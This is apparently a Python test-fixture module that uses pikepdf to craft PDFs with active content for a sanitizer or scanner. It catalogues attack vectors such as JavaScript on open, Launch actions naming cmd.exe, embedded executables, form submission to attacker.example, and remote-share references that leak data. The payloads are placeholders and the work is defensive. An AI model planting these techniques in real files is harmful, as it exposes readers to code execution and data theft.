"""PDFs that do more than show pages, by what is changed in an empty one."""

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String

from tests.support import crafted_files as crafted


def a_form(value: str) -> bytes:
    """Give a PDF with a field that is filled in, drawn by nobody yet."""

    def fill(pdf: Pdf) -> None:
        page = pdf.pages[0].obj
        field = _annotation(pdf, Subtype=Name.Widget, FT=Name.Tx, T=String("policy"))
        field.V, field.DA, field.P = String(value), String("/Helv 12 Tf 0 g"), page
        font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
        fonts = Dictionary(Helv=pdf.make_indirect(font))
        pdf.Root.AcroForm = Dictionary(
            Fields=Array([field]), NeedAppearances=True, DR=Dictionary(Font=fonts)
        )

    return crafted.a_pdf_with(fill)


def a_note(words: str) -> bytes:
    """Give a PDF with a comment box that somebody wrote onto the page."""

    def note(pdf: Pdf) -> None:
        _annotation(
            pdf,
            Subtype=Name.FreeText,
            Contents=String(words),
            DA=String("/Helv 12 Tf 0 g"),
            AP=Dictionary(N=_drawing(pdf, words)),
        )

    return crafted.a_pdf_with(note)


def _drawing(pdf: Pdf, words: str) -> pikepdf.Stream:
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    return pdf.make_stream(
        f"BT /F1 12 Tf 5 5 Td ({words}) Tj ET".encode(),
        Type=Name.XObject,
        Subtype=Name.Form,
        BBox=[0, 0, 250, 30],
        Resources=Dictionary(Font=Dictionary(F1=font)),
    )


def _annotation(pdf: Pdf, **said: object) -> pikepdf.Object:
    made = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Rect=[50, 700, 300, 730], F=4, **said)
    )
    pdf.pages[0].obj.Annots = Array([made])
    return made


def _script(word: str = "app.alert(1)") -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(word))


def _launch() -> Dictionary:
    return Dictionary(S=Name.Launch, F=String("cmd.exe"))


def _file(pdf: Pdf, content: bytes = b"MZ program") -> Dictionary:
    kept = pdf.make_stream(content, Type=Name.EmbeddedFile)
    return Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=kept))


def opens_with_script(pdf: Pdf) -> None:
    """Run a script when the file is opened."""
    pdf.Root.OpenAction = _script()


def closes_with_script(pdf: Pdf) -> None:
    """Run a script when the file is closed."""
    pdf.Root.AA = Dictionary(WC=_script())


def launches_by_page(pdf: Pdf) -> None:
    """Start a program when the page is shown."""
    # A direct dictionary in a direct dictionary: walking the objects misses it.
    pdf.pages[0].obj.AA = Dictionary(O=_launch())


def named_script(pdf: Pdf) -> None:
    """Hold a script by name."""
    scripts = Dictionary(Names=Array([String("a"), _script()]))
    pdf.Root.Names = Dictionary(JavaScript=scripts)


def embeds(pdf: Pdf, content: bytes = b"MZ program") -> None:
    """Carry a file."""
    files = Dictionary(Names=Array([String("a.exe"), _file(pdf, content)]))
    pdf.Root.Names = Dictionary(EmbeddedFiles=files)


def associates(pdf: Pdf) -> None:
    """Associate a file with the page."""
    pdf.pages[0].obj.AF = Array([_file(pdf)])


def attaches(pdf: Pdf) -> None:
    """Pin a file to the page."""
    _annotation(pdf, Subtype=Name.FileAttachment, FS=_file(pdf))


def links(pdf: Pdf) -> None:
    """Link to a site."""
    go = Dictionary(S=Name.URI, URI=String("https://phishing.example"))
    _annotation(pdf, Subtype=Name.Link, A=go)


def links_to_file(pdf: Pdf) -> None:
    """Link to a file on a share."""
    go = Dictionary(S=Name.GoToR, F=String("//attacker.example/share"), D=Array([0]))
    _annotation(pdf, Subtype=Name.Link, A=go)


def launches_by_link(pdf: Pdf) -> None:
    """Start a program by a link."""
    _annotation(pdf, Subtype=Name.Link, A=_launch())


def chains(pdf: Pdf) -> None:
    """Run a script after a harmless action."""
    first = Dictionary(S=Name.Named, N=Name.NextPage, Next=_script())
    _annotation(pdf, Subtype=Name.Link, A=first)


def submits(pdf: Pdf) -> None:
    """Send a form to a site."""
    send = Dictionary(S=Name.SubmitForm, F=String("https://attacker.example"))
    field = _annotation(pdf, Subtype=Name.Widget, FT=Name.Btn, T=String("b"), A=send)
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))


def imports(pdf: Pdf) -> None:
    """Read a file of the reader into the form."""
    get = Dictionary(S=Name.ImportData, F=String("secret.fdf"))
    _annotation(pdf, Subtype=Name.Link, A=get)


def calculates(pdf: Pdf) -> None:
    """Run a script for a field."""
    field = _annotation(pdf, Subtype=Name.Widget, FT=Name.Tx, T=String("b"))
    field.AA = Dictionary(C=_script())
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), CO=Array([field]))


def has_xfa(pdf: Pdf) -> None:
    """Hold a form of XML with a script."""
    form = pdf.make_stream(b"<xdp:xdp><script>evil()</script></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=form)


def has_media(pdf: Pdf) -> None:
    """Hold a film."""
    _annotation(pdf, Subtype=Name.RichMedia, RichMediaContent=_file(pdf))


def has_bookmark(pdf: Pdf) -> None:
    """Run a script by a bookmark."""
    mark = pdf.make_indirect(Dictionary(Title=String("here"), A=_script()))
    pdf.Root.Outlines = Dictionary(First=mark, Last=mark, Count=1)


def has_metadata(pdf: Pdf) -> None:
    """Say in the metadata who made it."""
    with pdf.open_metadata() as told:
        told["dc:creator"] = ["Maria Nunez"]


def has_information(pdf: Pdf) -> None:
    """Say in the information who made it."""
    pdf.docinfo.Author = String("Maria Nunez")


def points_outside(pdf: Pdf) -> None:
    """Draw a picture that is on a share."""
    picture = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Image)
    picture.F = String("//attacker.example/share")
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(X=picture))


def hides_action(pdf: Pdf) -> None:
    """Hold an action where no reader looks."""
    drawing = _drawing(pdf, "seen")
    drawing.Private = Dictionary(Deep=Array([Dictionary(Deeper=_launch())]))
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(X=drawing))
